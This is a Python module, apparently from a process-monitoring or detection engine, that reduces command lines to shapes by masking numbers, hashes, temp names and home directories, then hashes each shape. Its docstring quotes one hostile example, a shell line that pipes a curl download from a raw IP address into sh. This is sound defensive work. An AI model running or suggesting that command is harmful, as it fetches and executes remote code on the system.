"""What is the same in command lines that differ only in what was filled in: numbers, addresses, hashes, made-up names, homes.

Two processes of one chain are of one variant when their command lines have one shape. `sh -c 'curl http://1.2.3.4/x | sh'` and
`sh -c 'debian-sa1 1 1'` below cron are two; the hundred runs of the latter are one, whatever numbers they were given.

Words in their order, as the command-line signals see them (engine.words.command_line), which already replaces numbers, addresses,
GUIDs, hashes and base64 (what that hides counts). Here names that machines made up go too, and whose home directory it is.
"""

from __future__ import annotations

import hashlib
import re
from collections.abc import Sequence
from functools import lru_cache

from engine.words.command_line import words

_MADE_UP = re.compile(r"[\w~]*<(?:n|hex)>[a-z_~]+<(?:n|hex)>[\w~<>]*|tmp\.[\w<>]{6,}")
"""Letters between two numbers, as in `3f9ac2`, and what mktemp makes. One number at an end is a series: sa1, report_12."""
_EXTENSION = re.compile(r"\.[a-z]{1,5}\Z")
_HOMES = frozenset({"/home", "\\users", "users", "/users"})
_OPERATORS = "|&;<>"
_BEGINS = frozenset({"-c", "/c", "/k", "-exec", "-command"})
"""What a shell is to do begins behind these, as behind a pipe: a program and what it is to do, `net user`, `grep console`. Of a
program's own words only the first tells that; the others are names."""
_LONGEST_NAME = 24
"""Longer words without a dot are data, not names: `--token=…`, a mangled identifier."""


def shape(text: str) -> tuple[str, ...]:
    """The words of a command line without what was filled in; () for one that is nothing but the program's name."""
    return shape_of(words(text))


def shape_of(found: Sequence[str]) -> tuple[str, ...]:
    """The same of what engine.words.command_line.words has found."""
    out: list[str] = []
    kept, after_home = 1, False
    for word in found:
        masked, plain, begins, home = _kind(word)
        made = "<user>" if after_home else "<arg>" if plain and not kept else masked
        after_home = home
        kept = 2 if begins else kept - plain if kept else 0
        if made != "<arg>" or out[-1:] != ["<arg>"]:
            out.append(made)
    return tuple(out)


def shape_number(text: str) -> int:
    """A shape as a number, 1 … 2**63 - 1: the same in every process and version. Of some millions two are the same by accident
    once in a million cases.
    """
    return number_of(shape(text))


def number_of(made: tuple[str, ...]) -> int:
    """The number of a shape that is known already."""
    digest = hashlib.blake2b("\0".join(made).encode("utf-8", "replace"), digest_size=8).digest()
    return (int.from_bytes(digest, "little") >> 1) or 1


@lru_cache(maxsize=1 << 16)  # the same few thousand words make up most command lines; about 20 MB when full
def _kind(word: str) -> tuple[str, bool, bool, bool]:
    """A word without what was filled in; whether it is a plain word, begins a command, is a directory of homes."""
    bare = word.lstrip("-/+$%")
    operator = word[:1] in _OPERATORS
    home = word in _HOMES or bare in _HOMES
    return _masked(word, bare), bare == word and not operator, operator or word in _BEGINS, home


def _masked(word: str, bare: str) -> str:
    mark = word[: len(word) - len(bare)]
    if _MADE_UP.fullmatch(bare):
        return f"{mark}<x>"
    extension = _EXTENSION.search(bare)
    name = bare[: extension.start()] if extension else bare
    if _MADE_UP.fullmatch(name) or len(name) > _LONGEST_NAME:
        return f"{mark}<x>{extension.group() if extension else ''}"
    return word
